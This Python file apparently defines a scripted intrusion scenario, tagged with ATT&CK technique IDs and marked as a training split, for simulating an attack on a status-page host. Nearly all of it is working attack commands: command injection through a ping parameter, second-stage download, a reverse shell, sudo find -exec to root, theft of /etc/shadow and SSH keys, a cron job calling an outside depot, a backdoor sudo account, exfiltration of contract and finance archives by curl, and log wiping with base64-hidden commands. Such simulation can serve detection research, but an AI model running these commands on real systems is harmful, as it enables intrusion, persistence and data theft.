"""A status page hands its argument to a shell; a sudo rule that is too wide gives root; cron calls home."""

from __future__ import annotations

import base64
import urllib.parse
from pathlib import Path
from typing import TYPE_CHECKING

from plot import Storyline

if TYPE_CHECKING:
    from intruder import Intruder, Shell

TOOLS = Path(__file__).resolve().parent.parent / "tools"
PORT = 8080
ACCOUNTS = (("svc-index", "Quarry-64"), ("fontd", "Pebble-31"), ("mailq", "Copper-58"))
FOLDERS = ("/dev/shm/.font-cache", "/var/tmp/.x-lock", "/tmp/.status-build")
PERSIST = ("/usr/local/lib/index/refresh", "/usr/local/sbin/font-refresh", "/opt/mailq/flush")

# The page and its sudo rule are ordinary parts of the only host this storyline runs on.
WEAKEN = "set -e\ntest -f /srv/status/app.py\ntest -f /etc/sudoers.d/status\n"


def hidden(command: str) -> str:
    return f"echo {base64.b64encode(command.encode()).decode()} | base64 -d | bash"


class Break:
    """What the parts of one intrusion share."""

    def __init__(self, own: Intruder) -> None:
        self.own, self.host = own, own.entry
        self.hide, self.program = FOLDERS[own.variant % 3], PERSIST[own.variant % 3]
        self.account, self.password = ACCOUNTS[own.variant % 3]
        self.port = own.pick((4444, 9001, 53, 8081))

    def inject(self, command: str, technique: str, detached: bool = False) -> str:
        path = "/ping?host=" + urllib.parse.quote("127.0.0.1;" + command)
        shown = self.own.http(self.host, PORT, "GET", path, technique=technique, detached=detached)
        self.own.think(4)
        return shown

    def type(self, shell: Shell, *lines: tuple[str, str]) -> None:
        for command, technique in lines:
            shell.type(command, technique, password=self.password)
            self.own.think(4)


def come_in(it: Break) -> Shell:
    own, hide = it.own, it.hide
    own.step("initial access", "TA0001", "The ping page hands its argument to a shell; the intruder tries it.")
    it.inject("id", "T1190")
    it.inject("uname -a; cat /etc/os-release | head -3", "T1190")
    it.inject("pwd; ls -la", "T1190")
    it.inject("which curl wget python3 nc perl", "T1190")
    own.step("tool transfer", "TA0011", "A second stage is fetched into a hidden folder and made executable.")
    fetch = own.pick(("curl -s {} -o {}", "wget -q {} -O {}"))
    it.inject(f"mkdir -p {hide}", "T1564.001")
    connect = own.offer("connect.py", (TOOLS / "connect.py").read_text(encoding="utf-8"))
    survey = own.offer("survey.sh", (TOOLS / "survey.sh").read_text(encoding="utf-8"))
    it.inject(fetch.format(connect, f"{hide}/connect.py") + f"; ls -la {hide}", "T1105")
    it.inject(fetch.format(survey, f"{hide}/survey.sh"), "T1105")
    it.inject(f"chmod +x {hide}/survey.sh {hide}/connect.py", "T1222.002")
    own.step("command and control", "TA0011", "A reverse shell to the intruder is turned into a terminal.")
    line = f"setsid python3 {hide}/connect.py {own.address} {it.port} >/dev/null 2>&1 &"
    shell = own.catch(it.port, lambda: it.inject(line, "T1059.006"), "T1059.006")
    it.type(shell, ("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "T1059.006"))
    it.type(shell, ("export TERM=dumb HISTFILE=/dev/null", "T1070.003"))
    return shell


def look_round(it: Break, shell: Shell) -> None:
    it.own.step("discovery", "TA0007", "The intruder looks at the machine, its accounts, processes and network.")
    looks = [
        ("whoami; id", "T1033"),
        ("uname -a; cat /proc/version", "T1082"),
        ("cat /etc/passwd", "T1087.001"),
        ("ps aux", "T1057"),
        ("ss -tulpn", "T1049"),
        ("ip a; ip route; cat /etc/hosts", "T1016"),
        (f"{it.hide}/survey.sh > {it.hide}/s.txt; wc -l {it.hide}/s.txt", "T1059.004"),
        ("ls -la /home /srv /var/backups /opt", "T1083"),
        ("find / -xdev -perm -4000 -type f 2>/dev/null", "T1083"),
        ("getent group sudo adm share", "T1069.001"),
    ]
    it.own.rng.shuffle(looks)
    it.type(shell, *looks[: 10 - it.own.variant])
    it.own.step("privilege escalation", "TA0004", "A sudo rule lets the page's account run find: -exec gives a shell.")
    find = "sudo -n find /srv/status/cache -maxdepth 0 -exec"
    it.type(shell, ("sudo -n -l", "T1548.003"), (f"{find} id \\;", "T1548.003"))
    it.type(shell, (f"{find} /bin/bash \\;", "T1548.003"), ("id; cd /root", "T1033"))


def take_secrets(it: Break, shell: Shell) -> None:
    own, hide = it.own, it.hide
    own.step("credential access", "TA0006", "Hashes are copied; keys, histories and settings are searched for secrets.")
    it.type(
        shell,
        (f"cp /etc/shadow {hide}/a; cut -d: -f1,2 /etc/shadow | grep -v ':[!*]'", "T1003.008"),
        ("grep -rniE 'password|token|secret' /srv/status /etc/cron.d /opt 2>/dev/null | head", "T1552.001"),
        ("find /home /root -name 'id_*' -o -name '*.pem' -o -name '.git-credentials'", "T1552.004"),
        ("cat /home/*/.bash_history | grep -E 'ssh|scp|passw' | tail", "T1552.003"),
        (f"cp /home/mlind/.ssh/id_ed25519 {hide}/k; chmod 600 {hide}/k", "T1552.004"),
    )
    own.step("persistence", "TA0003", "A cron job that calls home, a local account that may use sudo, a key for root.")
    refresh = own.offer("refresh.sh", f'#!/bin/sh\ncurl -s -m 5 "{own.depot}/b?h=$(hostname)" > /dev/null\n')
    folder, program = it.program.rpartition("/")[0], it.program
    it.type(shell, (f"mkdir -p {folder}; curl -s {refresh} -o {program}; chmod 755 {program}", "T1105"))
    own.plant(it.host, program, "T1053.003")
    key = own.offer("key.pub", (TOOLS / "key.pub").read_text(encoding="utf-8"))
    it.type(
        shell,
        (f"echo '* * * * * root {program}' > /etc/cron.d/{it.account}", "T1053.003"),
        (f"useradd -m -r -d /var/lib/{it.account} -s /bin/bash -c 'service' {it.account}", "T1136.001"),
        (f"echo {it.account}:{it.password} | chpasswd; usermod -aG sudo {it.account}", "T1098.007"),
        (f"mkdir -p /root/.ssh; curl -s {key} >> /root/.ssh/authorized_keys", "T1098.004"),
    )


def carry_off(it: Break, shell: Shell) -> None:
    own, hide = it.own, it.hide
    own.step(
        "lateral movement", "TA0008", "With the developer's stolen key the intruder logs on as deployment account."
    )
    quiet = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
    it.type(
        shell,
        (f"ssh {quiet} -i {hide}/k deploy@{it.host.address}", "T1021.004"),
        ("id; ls -la ~ ~/releases", "T1083"),
        ("crontab -l; sudo -n -l", "T1069.001"),
        ("exit", "T1021.004"),
    )
    own.step("collection", "TA0009", "Documents and contracts are gathered into one archive.")
    it.type(
        shell,
        ("find /srv/share -type f | wc -l; ls -la /srv/share/contracts | head -5", "T1083"),
        (f"mkdir {hide}/d; cp -r /srv/share/contracts /srv/share/finance {hide}/d/", "T1005"),
        (f"tar -C {hide} -czf {hide}/d.tgz d a; ls -l {hide}/d.tgz", "T1560.001"),
    )
    own.step("exfiltration", "TA0010", "The archive is sent as a form over HTTP and encoded in base64.")
    it.type(
        shell,
        (f"curl -s -F f=@{hide}/d.tgz {own.depot}/up", "T1048.003"),
        (f"head -c 3000 {hide}/d.tgz | base64 -w0 | curl -s --data-binary @- {own.depot}/b", "T1048.003"),
    )


def clean_up(it: Break, shell: Shell) -> None:
    hide = it.hide
    it.own.step("defence evasion", "TA0005", "Times are set back, log lines and tools removed, commands hidden.")
    it.type(
        shell,
        (f"touch -r /etc/crontab /etc/cron.d/{it.account}; touch -r /usr/bin/cut {it.program}", "T1070.006"),
        (f"sed -i '/{it.own.address}/d' /srv/status/log/access.log", "T1070.002"),
        (hidden(f"grep -v {it.account} /var/log/auth.log > {hide}/l; cat {hide}/l > /var/log/auth.log"), "T1027.010"),
        (f"rm -rf {hide}/d {hide}/d.tgz {hide}/a {hide}/l {hide}/s.txt {hide}/survey.sh", "T1070.004"),
        ("history -c", "T1070.003"),
        (f"shred -u {hide}/k {hide}/connect.py; rmdir {hide}", "T1070.004"),
    )
    shell.close()


def play(own: Intruder) -> None:
    it = Break(own)
    shell = come_in(it)
    for part in (look_round, take_secrets, carry_off, clean_up):
        part(it, shell)
    own.think(150)
    own.step("return", "TA0003", "Later the intruder logs on from outside with the account made before.")
    shell = own.ssh(it.host, it.account, password=it.password, technique="T1078.003")
    it.type(shell, ("w; last -n 3", "T1033"), ("sudo id", "T1548.003"), ("sudo tail -n 5 /var/log/auth.log", "T1654"))
    it.type(shell, ("exit", "T1078.003"))
    shell.close()


STORYLINE = Storyline(
    name="status-page",
    split="train",
    words="A stranger uses a status page that hands its argument to a shell, becomes root through a sudo rule that is "
    "too wide, stays with a cron job and an account, takes documents and comes back over ssh.",
    weaken=WEAKEN,
    play=play,
    hosts=("build-07",),
    minutes=8,
)
